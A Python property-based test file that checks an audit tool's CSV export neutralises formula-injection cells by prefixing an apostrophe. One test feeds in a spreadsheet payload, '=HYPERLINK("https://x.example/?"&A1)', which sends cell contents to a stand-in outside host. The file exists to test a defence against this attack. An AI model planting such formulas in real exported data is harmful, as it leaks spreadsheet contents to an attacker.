"""CSV exports cannot carry a formula: every cell read back starts with no formula character,
and the value is the original one with at most a leading apostrophe."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from hypothesis import given, settings
from hypothesis import strategies as st

from audit.csv_cells import FORMULA_STARTS, SafeCsvWriter, neutral_cell
from audit.disclosure_report import write_disclosures
from audit.disclosures import StoredDisclosure

# Cells as clients could name things: any text, weighted towards formula starts and CSV syntax.
_CELL = st.one_of(
    st.text(),
    st.builds(lambda a, b: a + b, st.sampled_from([*FORMULA_STARTS, "'", '"', ",", "\n", " ="]), st.text()),
)


def _read_back(rows: list[list[str]]) -> list[list[str]]:
    out = io.StringIO(newline="")
    writer = SafeCsvWriter(out)
    for row in rows:
        writer.writerow(row)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


@settings(deadline=None)  # a loaded CI machine must not turn a slow example into a failure
@given(st.lists(st.lists(_CELL, min_size=1, max_size=6), min_size=1, max_size=5))
def test_no_cell_read_back_starts_a_formula_and_each_keeps_its_value(rows: list[list[str]]) -> None:
    back = _read_back(rows)
    assert len(back) == len(rows)
    for row, read in zip(rows, back, strict=True):
        assert len(read) == len(row)
        for original, cell in zip(row, read, strict=True):
            assert not cell.startswith(FORMULA_STARTS)
            # the apostrophe is added exactly when the value would start a formula, and is all
            assert cell == ("'" + original if original.startswith(FORMULA_STARTS) else original)


@settings(deadline=None)  # a loaded CI machine must not turn a slow example into a failure
@given(st.one_of(st.none(), st.integers(), st.floats(allow_nan=False)))
def test_non_text_values_are_neutral_too(value: object) -> None:
    cell = neutral_cell(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.lstrip("'") == ("" if value is None else str(value))


def test_the_disclosure_export_neutralises_a_client_chosen_title() -> None:
    at = datetime(2026, 1, 1, tzinfo=UTC)
    d = StoredDisclosure(1, "REF-1", '=HYPERLINK("https://x.example/?"&A1)', "@tenant", at, at, at, "0" * 64)
    out = io.StringIO(newline="")
    assert write_disclosures([d], "csv", out) == 1
    header, row = csv.reader(io.StringIO(out.getvalue(), newline=""))
    cells = dict(zip(header, row, strict=True))
    assert cells["title"] == '\'=HYPERLINK("https://x.example/?"&A1)'
    assert cells["tenant"] == "'@tenant"
